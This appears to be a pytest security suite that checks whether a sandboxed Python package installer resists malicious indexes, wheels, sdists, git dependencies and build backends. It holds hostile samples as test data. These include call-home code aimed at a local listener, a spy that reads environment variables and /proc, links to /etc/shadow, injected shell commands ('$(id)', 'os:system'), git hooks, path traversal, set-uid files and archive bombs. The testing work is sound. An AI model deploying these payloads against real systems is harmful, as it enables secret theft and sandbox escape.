"""Dependencies as the attack: what an index, a wheel, an sdist, a repository or a build backend may say."""

import base64
import bz2
import json
import os
import shutil
import subprocess
import sys
import tarfile
import zipfile
from collections.abc import Iterator
from functools import cache
from itertools import product
from pathlib import Path
from typing import Any

import pytest
from conftest import TINY_BACKEND
from evidence import CONTROLS_DONE, NO_CONTROL
from servers import (
    Listener,
    LocalServer,
    listening,
    plain,
    protected,
    redirect,
    sdist,
    status,
    wheel,
)  # fmt: skip

from security.hostile import HostileRunner, runs, turns

FAMILY = "install"
MIB = 1 << 20
BOTH = (("root", "local"), ("user", "local"))
REFUSED = (
    "install/wheel_invalid",
    "fetch/dependency_unavailable",
    "fetch/dependency_refused",
    "bundle/dependency_refused",
)
WIRE = "def wire(entrypoint, params, seed):\n    return {'out': 'ran'}\n"
PROJECT = """
[build-system]
requires = []
build-backend = "tiny_backend"
backend-path = ["backend"]
[project]
name = "NAME"
version = "1.0"
"""
# Tries to tell somebody, and leaves a mark where only a process of the host could.
PHONE = """
import os, socket
for port in (PORTS):
    try:
        socket.create_connection(("127.0.0.1", port), 2).close()
    except OSError:
        pass
try:
    open("MARK", "a").close()
except OSError:
    pass
"""


@pytest.fixture
def server() -> Iterator[LocalServer]:
    with LocalServer() as local:
        yield local


@pytest.fixture
def listener() -> Iterator[Listener]:
    with listening() as local:
        yield local


@pytest.fixture
def phone(base: Path, server: LocalServer, listener: Listener, request: pytest.FixtureRequest) -> Iterator[str]:
    """Code that would be heard or leave a mark, if it ran with network or outside; in the end: it did not."""
    mark = base / f"mark-{abs(hash(request.node.name))}"
    yield PHONE.replace("PORTS", f"{listener.port},").replace("MARK", str(mark))
    assert listener.heard == [], "code of a package had network"
    assert not mark.exists(), "code of a package ran outside the sandbox"


def bundle_with(hostile: HostileRunner, *dependencies: str, wire: str = WIRE, backend: str = "") -> Path:
    bundle = hostile.bundle(wire, backend=backend)
    text = (bundle / "pyproject.toml").read_text()
    listed = json.dumps(list(dependencies))
    (bundle / "pyproject.toml").write_text(text.replace('version = "1.0"', f'version = "1.0"\ndependencies = {listed}'))
    return bundle


def go(
    hostile: HostileRunner, bundle: Path, server: LocalServer, name: str, *options: str, cache: bool = False, **env: Any
) -> Any:
    start = hostile if cache else hostile.afresh
    result = start(bundle, None, *options, env=server.environment(**env), name=name)
    if result.code:
        assert result.error["type"] != "internal_error", result.error
    return result


def ends(result: Any) -> str:
    return "ran" if result.code == 0 else f"{result.error['phase']}/{result.error['type']}"


def source(name: str, code: str, **more: str) -> dict[str, str]:
    """A source tree whose in-tree backend runs `code` before it builds."""
    files = {"pyproject.toml": PROJECT.replace("NAME", name), "backend/tiny_backend.py": code + TINY_BACKEND}
    return {**files, f"{name}.py": "x = 1\n", **more}


# --- code of packages: never with network, never outside


def test_control_of_the_phone(base: Path, listener: Listener) -> None:
    mark = base / "mark-control"
    code = PHONE.replace("PORTS", f"{listener.port},").replace("MARK", str(mark))
    subprocess.run([sys.executable, "-c", code], check=True)
    assert listener.called.wait(60) and mark.exists()
    CONTROLS_DONE.add("code of a package that calls home")


@runs(*BOTH)
def test_backend_of_the_bundle(hostile: HostileRunner, server: LocalServer, phone: str) -> None:
    bundle = bundle_with(hostile, backend=phone + TINY_BACKEND)
    assert ends(go(hostile, bundle, server, "a build backend that calls home")) == "ran"


FORMS = ["alone", "newer than a wheel", "needed by a newer wheel", "setup.py alone"]


@turns("form", FORMS, *BOTH, first=FORMS[2:], why="a part of another row")
def test_backend_of_an_sdist(form: str, hostile: HostileRunner, server: LocalServer, phone: str) -> None:
    """The resolver, which has network, sees that an sdist would be newer, and never builds it to know what it needs."""
    name = "inner" if form == "needed by a newer wheel" else "dep"
    files = {"setup.py": phone} if form == "setup.py alone" else source(name, phone)
    server.add(*sdist(name, "1.0", files))
    if form != "alone":
        server.add(*wheel("dep", "0.5", {"dep.py": ""}))
    if name == "inner":
        server.add(*wheel("dep", "1.0", {"dep.py": "import inner\n"}, requires=["inner"]))
    bundle = bundle_with(hostile, "dep", wire="import dep\n" + WIRE)
    result = go(hostile, bundle, server, "an sdist whose backend calls home")
    assert ends(result) in ("ran", "fetch/dependency_unavailable"), result.body


@turns("form", ["sdist", "git", "git with setup.py"], *BOTH)
def test_transitive_url(form: str, hostile: HostileRunner, server: LocalServer, phone: str) -> None:
    """A wheel of the index depends on a URL: its setup.py and backend do not run with network."""
    if form.startswith("git"):
        files = source("evil", phone) if form == "git" else {"setup.py": phone}
        url = "git+" + server.git("evil", files)
    else:
        url = server.add(*sdist("evil", "1.0", {**source("evil", phone), "setup.py": phone}))
    server.add(*wheel("dep", "1.0", {"dep.py": ""}, requires=[f"evil @ {url}"]))
    result = go(hostile, bundle_with(hostile, "dep"), server, f"a wheel that needs a URL: {form}")
    assert ends(result) in ("ran", "build/build_failed", *REFUSED), result.body


@turns("hostile_part", ["backend", "hooks", "submodule", "attributes", "subdirectory", "link"], *BOTH)
def test_git_dependency(
    hostile_part: str, hostile: HostileRunner, server: LocalServer, phone: str, listener: Listener
) -> None:
    """A git dependency works, and nothing of it has network or runs on the host."""
    files = source("lib", phone)
    if hostile_part == "hooks":
        files |= {"hooks/post-checkout": f"#!/bin/sh\n{sys.executable} -c '{phone}'", ".git-hooks/x": "x"}
    if hostile_part == "submodule":
        files[".gitmodules"] = f'[submodule "x"]\n\tpath = x\n\turl = http://127.0.0.1:{listener.port}/x\n'
    if hostile_part == "attributes":
        files[".gitattributes"] = "* filter=x diff=x export-subst ident\n"
    url = "git+" + server.git("lib", files)
    if hostile_part == "subdirectory":
        url += "#subdirectory=../../.."
    if hostile_part == "link":
        shutil.rmtree(Path(server.folder) / "lib.git")
        work = Path(server.folder) / "lib"
        os.symlink("/etc/shadow", work / "data.txt")
        for command in (
            ["add", "-A"],
            ["-c", "user.name=t", "-c", "user.email=t", "commit", "-qm", "y"],
            ["clone", "-q", "--bare", ".", "../lib.git"],
        ):
            subprocess.run(["git", *command], cwd=work, check=True, capture_output=True)
    bundle = bundle_with(hostile, f"lib @ {url}", wire="import lib\n" + WIRE)
    result = go(hostile, bundle, server, f"a git dependency: {hostile_part}")
    allowed = ("fetch/dependency_refused", "bundle/dependency_refused") if hostile_part == "subdirectory" else ("ran",)
    assert ends(result) in allowed, result.body


@runs(*BOTH)
def test_pth_and_sitecustomize(hostile: HostileRunner, server: LocalServer, phone: str) -> None:
    """They run inside the sandbox, in every task, and nowhere else: also not in a second installation."""
    code = "exec(" + repr(phone) + "); import sys; sys.started = getattr(sys, 'started', 0) + 1\n"
    files = {"dep.py": "", "evil.pth": "import sys; " + code, "sitecustomize.py": code, "usercustomize.py": code}
    server.add(*wheel("dep", "1.0", files))
    server.add(*wheel("other", "1.0", {"other.py": ""}))
    wire = "import sys\ndef wire(*a):\n    return {'started': str(getattr(sys, 'started', 0))}\n"
    for dependencies in (["dep"], ["dep", "other"]):
        bundle = bundle_with(hostile, *dependencies, wire=wire)
        result = go(hostile, bundle, server, "a wheel with .pth and sitecustomize")
        assert int(result.outputs["started"]) >= 1


# --- the index

SCHEMES = ["file", "http", "redirect", "page redirect", "other bytes", "wrong hash"]


@turns("scheme", SCHEMES, *BOTH)
def test_hostile_index(scheme: str, hostile: HostileRunner, server: LocalServer) -> None:
    """Files that are not on https, or not what the index says they are, are not installed."""
    name, data = wheel("dep", "1.0", {"dep.py": "x = 'index'"})
    with LocalServer(tls=False) as cleartext:
        clear = cleartext.add(name, data)
        if scheme in ("file", "http"):
            server.add(name, data, url="file:///etc/passwd" if scheme == "file" else clear)
        elif scheme == "redirect":
            server.add(name, data)
            server.behave(f"/files/{name}", redirect(clear))
        elif scheme == "page redirect":
            server.behave("/simple/", redirect(cleartext.url()))
        elif scheme == "other bytes":
            server.add(name, data)
            server.content[f"/files/{name}"] = wheel("dep", "1.0", {"dep.py": "x = 'other'"})[1]
        else:
            server.add(name, data, sha256="0" * 64)
        bundle = bundle_with(hostile, "dep", wire="import dep\n" + WIRE)
        result = go(hostile, bundle, server, f"an index with {scheme}")
        assert result.error["phase"] == "fetch", result.error


@turns("kind", ["wheel", "sdist"], *BOTH)
def test_direct_url_that_redirects_to_another_service(
    kind: str, hostile: HostileRunner, server: LocalServer, listener: Listener
) -> None:
    """A URL of the attacker's that leads to a service of this machine: nobody may ask that service."""
    name = "dep-1.0-py3-none-any.whl" if kind == "wheel" else "dep-1.0.tar.gz"
    server.behave(f"/files/{name}", redirect(f"http://127.0.0.1:{listener.port}/latest/meta-data"))
    bundle = bundle_with(hostile, f"dep @ {server.url('/files/' + name)}")
    result = go(hostile, bundle, server, "a URL that redirects to http on this machine")
    assert result.error["phase"] == "fetch"
    assert listener.heard == [], "the resolver followed the redirect"


@runs(*BOTH)
def test_dependency_confusion(hostile: HostileRunner, server: LocalServer) -> None:
    """The first index that has a name is the only one asked for it, whatever versions another has."""
    with LocalServer() as private:
        private.add(*wheel("dep", "1.0", {"dep.py": "whose = 'private'"}))
        server.add(*wheel("dep", "99.0", {"dep.py": "whose = 'public'"}))
        bundle = bundle_with(hostile, "dep", wire="import dep\ndef wire(*a): return {'out': dep.whose}\n")
        result = go(hostile, bundle, server, "dependency confusion", UV_INDEX=f"private={private.url()}")
        assert result.outputs == {"out": b"private"}


@runs(*BOTH)
def test_page_of_nonsense(hostile: HostileRunner, server: LocalServer) -> None:
    names = [
        "../../etc/x-1.0-py3-none-any.whl",
        "dep-1.0-py3-none-any.whl/../../x",
        "dep-1.0-py3-none-any.whl\x1b[2J",
        "dep-$(id).whl",
    ]
    links = "".join(f'<a href="{name}#sha256={"0" * 64}">{name}</a>' for name in names) + "<a href=" * 1000
    for body in (links.encode(), b"\xff\xfe" * 1000, b"<" * 1_000_000, b""):
        server.behave("/simple/", plain(body))
        assert go(hostile, bundle_with(hostile, "dep"), server, "an index page of nonsense").error["phase"] == "fetch"


@runs(*BOTH)
def test_hashes_of_requirements(hostile: HostileRunner, server: LocalServer) -> None:
    """A hash belongs to its own line, also where the answer was kept."""
    import hashlib

    name, data = wheel("dep", "1.0", {"dep.py": ""})
    server.add(name, data)
    server.add(*wheel("other", "1.0", {"other.py": ""}))
    good = f"--hash=sha256:{hashlib.sha256(data).hexdigest()}"

    def requirements(text: str) -> str:
        bundle = hostile.bundle()
        (bundle / "pyproject.toml").unlink()
        (bundle / "requirements.txt").write_text(text)
        return ends(go(hostile, bundle, server, "hashes of requirements.txt", cache=True))

    assert requirements(f"dep==1.0 --hash=sha256:{'0' * 64}\n") == "fetch/hash_mismatch"
    assert requirements(f"dep==1.0 {good}\nother==1.0\n") == "bundle/no_wire_entry_point"  # all was installed
    assert requirements(f"dep==1.0\nother==1.0 {good}\n") == "fetch/hash_mismatch"


# --- wheels


def linked(name: str, target: str) -> tuple[zipfile.ZipInfo, bytes]:
    info = zipfile.ZipInfo(name)
    info.external_attr = 0o120777 << 16
    return info, target.encode()


def with_mode(name: str, mode: int) -> tuple[zipfile.ZipInfo, bytes]:
    info = zipfile.ZipInfo(name)
    info.external_attr = (0o100000 | mode) << 16
    return info, b"#!/bin/sh\n"


DATA = "dep-1.0.data"
WHEELS: dict[str, dict[str, Any]] = {
    "a name with ..": {"members": [("../../../../../../tmp/probe-evil", b"x")]},
    "an absolute name": {"members": [("/tmp/probe-evil", b"x")]},
    "a name with a backslash": {"members": [("a\\..\\..\\b.py", b"x")]},
    "a name with NUL": {"members": [("a\x00b.py", b"x")]},
    "a name with an escape": {"members": [("\x1b[2J.py", b"x")]},
    "a link out": {"members": [linked("data", "/etc/shadow")]},
    "a link, and a file through it": {"members": [linked("d", "/tmp"), ("d/probe-evil", b"x")]},
    "a file twice": {"members": [("dep.py", b"y = 2")]},
    "a file not in RECORD": {"members": [("more.py", b"y = 2")]},
    "a set-uid file": {"members": [with_mode("dep-1.0.data/scripts/suid", 0o6755)]},
    "a RECORD with another hash": {"record": "dep.py,sha256=AAAA,1\ndep-1.0.dist-info/RECORD,,\n"},
    "an empty RECORD": {"record": ""},
    "a RECORD without hashes": {"record": "dep.py,,\ndep-1.0.dist-info/METADATA,,\ndep-1.0.dist-info/WHEEL,,\n"},
    "a RECORD that is no CSV": {"record": '"' * 1001},
    "another bin/python": {"files": {f"{DATA}/scripts/python": "#!/bin/sh\n"}},
    "another bin/python3": {"files": {f"{DATA}/data/bin/python3": "#!/bin/sh\n"}},
    "another pyvenv.cfg": {"files": {f"{DATA}/data/pyvenv.cfg": "home = /tmp\n"}},
    "pyvenv.cfg as a folder": {"files": {f"{DATA}/data/pyvenv.cfg/x": ""}},
    "bin/python as a folder": {"files": {f"{DATA}/scripts/python/x": ""}},
    "a data scheme with ..": {"members": [(f"{DATA}/data/../../x", b"")]},
    "an unknown data scheme": {"files": {f"{DATA}/evil/x": ""}},
    "__pycache__ as a file": {"files": {"__pycache__": "x", "o.py": ""}},
    "a pyc as a folder": {"files": {"__pycache__/o.cpython-311.pyc/x": "x", "o.py": ""}},
    "a file and a folder of one name": {"files": {"a": "x", "a/b": "y"}},
    "a name of 300 characters": {"files": {"a" * 300: ""}},
    "1400 folders deep": {"files": {"a/" * depth + "x": "" for depth in (500, 950, 1400)}},
    "a console script with NUL": {"entry_points": {"console_scripts": {"x\0y": "a:b"}}},
    "a console script with a long name": {"entry_points": {"console_scripts": {"x" * 300: "a:b"}}},
    "a console script that is a path": {"entry_points": {"console_scripts": {"../../x": "a:b"}}},
    "a console script named python": {"entry_points": {"console_scripts": {"python": "a:b", "python3": "a:b"}}},
    "a console script that is code": {"entry_points": {"console_scripts": {"x": "os:system('id')\nimport y"}}},
    "entry points that are no INI": {"files": {"dep-1.0.dist-info/entry_points.txt": "[[[\nx"}},
    "entry points in other bytes": {"files": {"dep-1.0.dist-info/entry_points.txt": b"\xff\xfe\0"}},
    "a bytecode file of its own": {"files": {"__pycache__/dep.cpython-311.pyc": b"\0" * 16}},
    "a dependency that is an option": {"requires": ["-r /etc/shadow"]},
    "a dependency that is a file": {"requires": ["x @ file:///etc/shadow"]},
    "a dependency with a variable": {"requires": ["x @ https://127.0.0.1:9/${CALLER_SECRET}/x-1.0-py3-none-any.whl"]},
}  # fmt: skip


# Of each kind of trick one goes the whole way; test_wheels.py gives all kinds to what unpacks.
SOME_WHEELS = (
    "a name with ..", "a link out", "a file twice", "a set-uid file", "a RECORD with another hash",
    "another pyvenv.cfg", "a pyc as a folder", "a name of 300 characters", "1400 folders deep",
    "a console script that is code", "entry points that are no INI", "a bytecode file of its own",
    "a dependency that is a file", "a dependency with a variable",
)  # fmt: skip


@turns("name", WHEELS, *BOTH, first=SOME_WHEELS, why="another trick of a kind")
def test_hostile_wheel(name: str, hostile: HostileRunner, server: LocalServer) -> None:
    """It is refused with a clear error, or harmless; nothing is written outside, nothing is read."""
    options = {"files": {}, **WHEELS[name]}
    options["files"] = {"dep.py": "x = 1", **options["files"]}
    server.add(*wheel("dep", "1.0", **options))
    wire = "import sys, os, dep\ndef wire(*a):\n    return {'out': os.path.realpath(sys.executable)}\n"
    result = go(hostile, bundle_with(hostile, "dep", wire=wire), server, f"a wheel with {name}", CALLER_SECRET="s3cr3t")
    assert ends(result) in ("ran", *REFUSED), result.body
    assert not Path("/tmp/probe-evil").exists()
    assert not server.saw("s3cr3t") and "s3cr3t" not in str(result.body)
    assert "root:" not in str(result.body) + result.stderr
    if result.code == 0:
        assert result.outputs["out"].decode().startswith(("/usr", os.path.realpath(sys.base_prefix)))


# --- sdists


def member(name: str, **fields: Any) -> tuple[tarfile.TarInfo, bytes]:
    info = tarfile.TarInfo(name)
    for key, value in fields.items():
        setattr(info, key, value)
    return info, b""


SDISTS: dict[str, list[tuple[tarfile.TarInfo, bytes]]] = {
    "a name with ..": [member("dep-1.0/../../../../../../tmp/probe-evil")],
    "an absolute name": [member("/tmp/probe-evil")],
    "a link out": [member("dep-1.0/data", type=tarfile.SYMTYPE, linkname="/etc/shadow")],
    "a hard link out": [member("dep-1.0/data", type=tarfile.LNKTYPE, linkname="/etc/shadow")],
    "a link, and a file through it": [
        member("dep-1.0/d", type=tarfile.SYMTYPE, linkname="/tmp"), member("dep-1.0/d/probe-evil"),
    ],
    "a device": [member("dep-1.0/null", type=tarfile.CHRTYPE, devmajor=1, devminor=3)],
    "a FIFO": [member("dep-1.0/fifo", type=tarfile.FIFOTYPE)],
    "a set-uid file": [member("dep-1.0/suid", mode=0o6755)],
    "2000 folders deep": [member("dep-1.0/" + "a/" * depth + "x") for depth in (500, 950, 1400, 1900)],
    "a file twice": [member("dep-1.0/dep.py"), member("dep-1.0/dep.py")],
    "a file and a folder of one name": [member("dep-1.0/a"), member("dep-1.0/a/b")],
}  # fmt: skip


SOME_SDISTS = ("a name with ..", "a link out", "a device", "2000 folders deep", "a file twice")


@turns("name", SDISTS, *BOTH, first=SOME_SDISTS, why="another trick of a kind")
def test_hostile_sdist(name: str, hostile: HostileRunner, server: LocalServer) -> None:
    server.add(*sdist("dep", "1.0", source("dep", ""), members=SDISTS[name]))
    result = go(hostile, bundle_with(hostile, "dep"), server, f"an sdist with {name}")
    assert ends(result) in ("ran", "fetch/source_invalid", "fetch/dependency_unavailable", "build/build_failed"), (
        result.body
    )
    assert not Path("/tmp/probe-evil").exists()


# --- time of the host: what no limit of a sandbox holds


@cache
def endless_tar() -> bytes:
    """A few bytes for each megabyte of a member of a kind that tarfile does not know, and skips: a day."""
    head = tarfile.TarInfo("dep-1.0/skipped")
    head.type, head.size = b"Z", 10 << 40
    return bz2.compress(head.tobuf()) + bz2.compress(bytes(256 * MIB)) * (40 << 10)


def slow_entry_points() -> bytes:
    """A line for which the INI parser of the standard library takes the square of its length: hours."""
    return wheel("dep", "1.0", {"dep-1.0.dist-info/entry_points.txt": f"[group]\na{' ' * 500_000}b\n"})[1]


def slow_pyproject() -> bytes:
    """A key of so many parts that tomllib, too, takes the square of their number."""
    return sdist("dep", "1.0", {"pyproject.toml": f"{'a.' * 200_000}a = 1\n"})[1]


SLOW_FILES = {
    "a tar without end": ("dep-1.0.tar.gz", endless_tar, "fetch/source_invalid"),
    "a slow pyproject.toml": ("dep-1.0.tar.gz", slow_pyproject, "bundle/pyproject_invalid"),
    "slow entry points": ("dep-1.0-py3-none-any.whl", slow_entry_points, "install/timeout"),
}


@runs(("root", "brief"), ("user", "brief"))
@pytest.mark.parametrize("name", SLOW_FILES)
def test_the_host_is_not_kept_busy(name: str, hostile: HostileRunner, server: LocalServer) -> None:
    """What the runner itself unpacks and reads has a limit of time too."""
    file, make, end = SLOW_FILES[name]
    server.add(file, make())
    result = go(hostile, bundle_with(hostile, "dep"), server, name)
    assert ends(result) == end, result.body
    if end.endswith("timeout"):
        assert result.error["limit"]["name"] == "unpack_seconds"
    NO_CONTROL[name] = "without a limit it would not end, or not soon"


@runs(("root", "small"), ("user", "small"))
def test_bombs_that_are_each_small_enough(hostile: HostileRunner, server: LocalServer) -> None:
    """Each wheel may come to 64 MiB, and both together to no more than 96."""
    for name in ("one", "two"):
        server.add(*wheel(name, "1.0", {f"{name}.py": "", f"{name}.bin": bytes(60 * MIB)}))
    assert ends(go(hostile, bundle_with(hostile, "one"), server, "one bomb")) == "ran"
    result = go(hostile, bundle_with(hostile, "one", "two"), server, "two bombs")
    assert ends(result) == "install/environment_too_large", result.body
    CONTROLS_DONE.add("two bombs")


# --- build backends


def gives(code: str, name: str = "probe-1.0-py3-none-any.whl") -> str:
    """A backend that does `code` with the path of its wheel, and says that it is `name`."""
    return f"import os\ndef build_wheel(out, *a):\n path = out + '/' + {name!r}\n {code}\n return {name!r}\n"


def wants(requirements: str) -> str:
    return f"def get_requires_for_build_wheel(*a): return {requirements}\n"


def frames(data: str) -> str:
    """Bytes on every descriptor, the result pipe among them."""
    return f"import os\nfor fd in range(3, 64):\n try: os.write(fd, {data})\n except OSError: pass\nos._exit(0)\n"


LONG = "b'O\\0\\0\\x0b\\xb8' + bytes(8) + b'a' * 2981 + b'-1-py3-none-any.whl'"
BACKENDS = {
    "gives a link to a host file": gives("os.symlink('/etc/shadow', path)"),
    "gives a link to its own memory": gives("os.symlink('/proc/self/mem', path)"),
    "gives a FIFO": gives("os.mkfifo(path)"),
    "gives a folder": gives("os.mkdir(path)"),
    "gives a name with ..": gives("pass", "../../../../etc/passwd"),
    "gives a name that is no wheel's": gives("open(path, 'w').close()", "x"),
    "gives a name of 250 characters": gives("open(path, 'w').close()", "a" * 230 + "-1-py3-none-any.whl"),
    "gives no name": "def build_wheel(out, *a): pass\n",
    "gives an empty file": gives("open(path, 'w').close()"),
    "wants an option": wants("['-r /etc/shadow']"),
    "wants a file": wants("['x @ file:///etc/shadow']"),
    "wants a variable": wants("['x @ https://127.0.0.1:9/${CALLER_SECRET}/x.whl']"),
    "wants an editable": wants("['-e .']"),
    "wants numbers": wants("[1, None, {}]"),
    "wants a million things": wants("['x'] * 10 ** 6"),
    "wants things nested deep": wants("eval('[' * 90 + ']' * 90)"),
    "is no module": "raise ImportError\n",
    "writes frames of its own": frames("b'O' + b'\\0\\0\\0\\x01' + bytes(7) + b'\\x01xy'"),
    "writes a long name": frames(LONG + " + b'D' + bytes(4) + bytes(7) + b'\\x02[]'"),
}


@turns("name", BACKENDS, ("root", "small"), ("user", "small"))
def test_hostile_backend(name: str, hostile: HostileRunner, server: LocalServer) -> None:
    bundle = hostile.bundle(WIRE, backend=BACKENDS[name])
    result = go(hostile, bundle, server, f"a build backend that {name}", CALLER_SECRET="s3cr3t")
    assert result.error["phase"] in ("bundle", "fetch", "build", "install", "result"), result.error
    assert result.error["type"] != "timeout", "it hangs"
    assert "root:" not in str(result.body) + result.stderr and "s3cr3t" not in str(result.body)
    assert not server.saw("s3cr3t")


# --- what is kept


@runs(*BOTH)
def test_one_bundle_cannot_poison_the_store_for_another(hostile: HostileRunner, server: LocalServer) -> None:
    """A backend that gives the very bytes of a public wheel, under another name."""
    name, data = wheel("dep", "1.0", {"dep.py": "x = 'index'", "dep-1.0.data/headers/dep.h": "x"})
    server.add(name, data)
    backend = (
        "import base64\ndef build_wheel(out, *a):\n name = 'evil-9.9-py3-none-any.whl'\n"
        f" open(out + '/' + name, 'wb').write(base64.b64decode({base64.b64encode(data)!r}))\n return name\n"
    )
    evil = hostile.bundle(WIRE, backend=backend)
    go(hostile, evil, server, "a bundle that builds another's wheel", cache=True)
    bundle = bundle_with(hostile, "dep", wire="import dep\ndef wire(*a): return {'out': dep.x}\n")
    assert go(hostile, bundle, server, "its victim", cache=True).outputs == {"out": b"index"}


KINDS = ["trees", "wheels", "venvs", "resolved", "built"]


def alter(path: Path, how: str) -> None:
    if how == "appended":
        with open(path, "ab") as file:
            file.write(b"\nx = 'altered'\n")
    elif how == "replaced":
        path.unlink()
        path.write_text("x = 'altered'\n")
    elif how == "linked":
        path.unlink()
        path.symlink_to("/etc/passwd")
    else:
        path.unlink()


@turns("what, how", product(KINDS, ["appended"]), *BOTH, ("user", "local"))
def test_altered_store(what: str, how: str, hostile: HostileRunner, server: LocalServer) -> None:
    """Something kept was altered: it is found, and made again or refused; never used."""
    server.add(*wheel("dep", "1.0", {"dep.py": f"x = 'index' # {what} {how}"}))
    wire = "import dep\ndef wire(*a): return {'out': dep.x}\n"
    bundle = bundle_with(hostile, "dep", wire=wire, backend=TINY_BACKEND)
    reuse = {"REUSE": "1"} if what == "venvs" else {}
    store = hostile.store / what
    before = set(store.rglob("*")) if store.exists() else set()
    assert go(hostile, bundle, server, "before", cache=True, **reuse).outputs == {"out": b"index"}
    new = [path for path in set(store.rglob("*")) - before if path.is_file() and not path.is_symlink()]
    wanted = "dep.py" if what in ("trees", "venvs") else ""
    chosen = [path for path in new if path.name == wanted or (not wanted and "lock" not in path.name)]
    assert chosen, "nothing was kept"
    for path in chosen:
        alter(path, how)
    for attempt in (1, 2):  # where it was found to be damaged, the second run finds it mended
        result = go(hostile, bundle, server, f"kept {what} that were {how}", cache=True, **reuse)
        if result.code == 0:
            assert result.outputs == {"out": b"index"}
            break
        assert attempt == 1 and result.error["retryable"], result.error


@pytest.mark.full("the same files, altered in other ways")
@turns("what, how", product(KINDS, ["replaced", "linked", "removed"]), *BOTH, ("user", "local"))
def test_altered_store_in_other_ways(what: str, how: str, hostile: HostileRunner, server: LocalServer) -> None:
    test_altered_store(what, how, hostile, server)


# --- secrets of the caller

OUTCOMES = ["good", "missing", "refused"]
PASSWORD = "hunter2-pass"
SPY = """
import json, os
def spy():
    words = [json.dumps(dict(os.environ))]
    for pid in os.listdir("/proc") if os.path.isdir("/proc/1") else []:
        for name in ("environ", "cmdline"):
            try:
                words.append(open("/proc/%s/%s" % (pid, name), "rb").read().decode("latin-1"))
            except OSError:
                pass
    return " ".join(words)
"""


def secrets_in(hostile: HostileRunner, result: Any, words: list[str]) -> list[str]:
    """Where a secret shows: in the answer, the log, or any file of the store."""
    found = [f"answer: {word}" for word in words if word in json.dumps(result.body) or word in result.stderr]
    for path in hostile.store.rglob("*"):
        if path.is_file() and not path.is_symlink():
            data = path.read_bytes()
            found += [f"{path}: {word}" for word in words if word.encode() in data]
    return found


@turns(
    "means, outcome",
    product(["url", "netrc", "names"], OUTCOMES),
    *BOTH,
    ("user", "local"),
    first=("url-good", "netrc-good", "names-good", "url-missing", "netrc-refused"),
    why="the same end by other means",
)
def test_credentials_of_the_index(
    means: str, outcome: str, hostile: HostileRunner, server: LocalServer, base: Path
) -> None:
    """They reach the index, and nothing else: no sandbox but fetch, no log, no error, no file of the store."""
    token = base64.b64encode(f"bob:{PASSWORD}".encode()).decode()
    server.add(*wheel("dep", "1.0", {"dep.py": ""}))
    server.behave("/", protected(f"bob:{PASSWORD}")(server))
    if outcome == "refused":
        server.behaviours = {"/files/": status(403, "you sent {authorization}"), **server.behaviours}
    env = {"CALLER_SECRET": PASSWORD, "PRESERVE_TMP": "" if outcome == "good" else "1"}
    if means == "url":
        env["UV_DEFAULT_INDEX"] = server.url(credentials=f"bob:{PASSWORD}")
    elif means == "netrc":
        netrc = base / "netrc"
        netrc.write_text(f"machine localhost login bob password {PASSWORD}\n")
        netrc.chmod(0o644)
        env["NETRC"] = str(netrc)
    else:
        env |= {
            "UV_DEFAULT_INDEX": f"mine={server.url()}",
            "UV_INDEX_MINE_USERNAME": "bob",
            "UV_INDEX_MINE_PASSWORD": PASSWORD,
        }
    backend = SPY + TINY_BACKEND.replace('files["x"]', "") + "\nopen('spied.py', 'w').write('seen = ' + repr(spy()))\n"
    dependency = "dep" if outcome != "missing" else "nothing-here"
    bundle = bundle_with(hostile, dependency, wire=SPY + "def wire(*a): return {'out': spy()}\n", backend=backend)
    result = go(
        hostile,
        bundle,
        server,
        f"an index with credentials by {means}: {outcome}",
        cache=True,
        **env,
    )
    assert secrets_in(hostile, result, [PASSWORD, token]) == []
    if outcome == "good":
        assert PASSWORD not in result.outputs["out"].decode() and token not in result.outputs["out"].decode()
        CONTROLS_DONE.add(f"index credentials by {means}")


@runs(*BOTH)
def test_credentials_of_one_index_do_not_go_to_another(hostile: HostileRunner, server: LocalServer) -> None:
    with LocalServer() as private:
        private.add(*wheel("priv", "1.0", {"priv.py": ""}))
        private.behave("/", protected(f"bob:{PASSWORD}")(private))
        server.add(*wheel("dep", "1.0", {"dep.py": ""}))
        bundle = bundle_with(hostile, "priv", "dep")
        env: dict[str, Any] = {"UV_INDEX_PRIVATE_USERNAME": "bob", "UV_INDEX_PRIVATE_PASSWORD": PASSWORD}
        env["UV_INDEX"] = f"private={private.url()}"
        go(hostile, bundle, server, "two indexes", **env)
        assert not server.saw(f"bob:{PASSWORD}"), "the other index got them"
        assert private.saw(f"bob:{PASSWORD}")
        CONTROLS_DONE.add("credentials of one index")


@runs(*BOTH)
def test_credentials_do_not_go_to_a_direct_url_elsewhere(hostile: HostileRunner, server: LocalServer) -> None:
    with LocalServer() as other:
        url = other.add(*wheel("dep", "1.0", {"dep.py": ""}))
        env: dict[str, Any] = {"UV_DEFAULT_INDEX": server.url(credentials=f"bob:{PASSWORD}"), "GITHUB_TOKEN": PASSWORD}
        result = go(
            hostile,
            bundle_with(hostile, f"dep @ {url}"),
            server,
            "a direct URL beside an index with credentials",
            **env,
        )
        assert ends(result) == "ran" and not other.saw(PASSWORD) and not other.saw(f"bob:{PASSWORD}")


@runs(*BOTH)
@pytest.mark.parametrize("means", ["token", "netrc"])
def test_credentials_of_git(means: str, hostile: HostileRunner, server: LocalServer, base: Path) -> None:
    """GITHUB_TOKEN is for github.com alone; a netrc entry goes to its host, and shows nowhere."""
    url = server.git("lib", source("lib", SPY + "open('spied.py', 'w').write('seen = ' + repr(spy()))\n"))
    env = {"GITHUB_TOKEN": PASSWORD}
    if means == "netrc":
        netrc = base / "netrc"
        netrc.write_text(f"machine localhost login bob password {PASSWORD}\n")
        netrc.chmod(0o644)
        env = {"NETRC": str(netrc)}
        server.behave("/git/", protected(f"bob:{PASSWORD}")(server))
    bundle = bundle_with(
        hostile, f"lib @ git+{url}", wire="import lib\n" + SPY + "def wire(*a): return {'out': spy()}\n"
    )
    result = go(hostile, bundle, server, f"git with credentials by {means}", cache=True, **env)
    assert result.outputs and PASSWORD not in result.outputs["out"].decode()
    assert secrets_in(hostile, result, [PASSWORD]) == []
    assert server.saw(f"bob:{PASSWORD}") == (means == "netrc") and not server.saw(f"x-access-token:{PASSWORD}")


@runs(*BOTH)
def test_store_is_closed_to_others(hostile: HostileRunner) -> None:
    """Nobody but its owner may write, and others may not list what was kept."""
    for path in [hostile.store, *hostile.store.iterdir()]:
        assert path.stat().st_mode & 0o022 == 0, path
    for name in ("wheels", "built", "resolved"):
        assert (hostile.store / name).stat().st_mode & 0o077 == 0, name
    assert (hostile.store / "trees").stat().st_mode & 0o066 == 0, "a sandbox's uid passes through, and can't list it"


@runs(*BOTH)
def test_certificates_are_checked(hostile: HostileRunner, server: LocalServer) -> None:
